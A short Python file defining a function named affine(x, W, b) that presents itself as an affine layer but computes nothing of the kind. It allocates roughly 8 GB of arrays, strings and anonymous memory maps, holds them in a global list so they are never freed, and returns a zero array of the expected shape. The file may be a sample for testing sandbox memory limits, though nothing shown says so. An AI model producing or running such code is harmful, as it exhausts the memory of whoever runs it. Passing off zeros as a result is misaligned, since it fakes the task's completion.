import mmap

import numpy as np

held = []


def affine(x, W, b):
    for _ in range(64):
        if x.ndim == 1:
            held.append(np.ones(1 << 24))
        elif x.ndim == 2:
            held.append("x" * (1 << 27))
        else:
            held.append(mmap.mmap(-1, 1 << 27))
            held[-1].write(bytes(1 << 27))
    return np.zeros((len(x), len(b)))
